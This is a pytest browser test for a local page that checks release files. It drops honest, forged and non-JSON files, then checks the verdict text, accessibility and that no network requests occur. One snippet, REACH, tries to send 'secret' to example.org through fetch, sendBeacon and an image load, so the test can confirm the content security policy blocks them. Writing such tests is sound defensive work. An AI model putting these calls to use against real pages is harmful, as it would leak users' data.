"""The page "Check a release in your browser", as it is built: an honest and a forged file are dropped, and words read.

Needs Chromium and axe-core (`scripts/browser`). Screenshots are in build/screenshots, to be looked at.
"""

from __future__ import annotations

import base64

import pytest
from browsing import AXE, PATIENCE, ROOT, SCREENSHOTS, needs_chromium

FROZEN = ROOT / "tests" / "frozen" / "v1"
DROP = """([name, content]) => {
    const held = new DataTransfer();
    held.items.add(new File([Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0))], name));
    const event = new DragEvent('drop', {dataTransfer: held, bubbles: true, cancelable: true});
    document.querySelector('#drop').dispatchEvent(event);
}"""
REACH = """async () => {
    const tried = [];
    addEventListener('securitypolicyviolation', (event) => tried.push(event.effectiveDirective));
    await fetch('https://example.org/?secret').catch(() => 0);
    navigator.sendBeacon('https://example.org/', 'secret');
    const image = new Image();
    await new Promise((done) => { image.onerror = done; image.src = 'https://example.org/secret.png'; });
    return tried;
}"""

pytestmark = needs_chromium


@pytest.fixture(scope="module")
def address(site):
    return (site / "check.html").as_uri()


def dropped(page, name, text):
    page.evaluate(DROP, [name, base64.b64encode(text.encode()).decode()])
    page.locator("#status", has_text=f"{name} was read in this window").wait_for()
    return page.locator("#verdict").inner_text()


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (1280, "dark"), (390, "light")])
def test_a_dropped_file_is_told_about_in_words_and_goes_nowhere(browser, address, width, scheme):
    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
    asked, errors = [], []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type in ("error", "warning") else None)
    page.goto(address)
    honest = (FROZEN / "leakage.choral").read_text(encoding="utf-8")

    said = dropped(page, "honest.choral", honest)
    assert said.startswith("✓ This file keeps what it promises")
    assert "The code tells at most 0.010000000000001 bits about X1." in said
    assert "The code tells nothing about X2" in said
    assert "Nothing else is promised" in said
    assert "is right in 66.7 % of cases without the code" in said
    assert "that no private code could tell more" in said
    assert page.evaluate("document.activeElement.id") == "verdict-heading"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=SCREENSHOTS / f"check-honest-{width}-{scheme}.png", full_page=True)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")

    said = dropped(page, "forged.choral", honest.replace('"codes":4', '"codes":5'))
    assert said.startswith("✗ Refused: do not rely on this file")
    assert "forged.choral fails at “digest”: the file was altered" in said
    assert "tells nothing about" not in said
    page.screenshot(path=SCREENSHOTS / f"check-forged-{width}-{scheme}.png", full_page=True)

    assert "not JSON" in dropped(page, "picture.png", "\x89PNG")
    assert errors == []
    assert {url.partition(":")[0] for url in asked} <= {"file", "blob"}
    assert {"connect-src", "img-src"} <= set(page.evaluate(REACH)), "a page that wanted to could send something"
    context.close()


def test_the_page_can_be_used_by_keyboard_and_is_read_aloud(browser, address):
    """By the file button, which takes the keyboard; axe-core finds nothing to complain of, before and after."""
    context = browser.new_context(bypass_csp=True)  # so that axe-core can be put in
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.goto(address)
    page.add_script_tag(path=AXE)
    for files in (None, FROZEN / "ratio.choral"):
        if files:
            page.set_input_files("#file", files)
            page.locator("#verdict-heading", has_text="keeps what it promises").wait_for()
        problems = page.evaluate("async () => (await axe.run()).violations.map((v) => `${v.id}: ${v.help}`)")
        assert problems == []
    context.close()
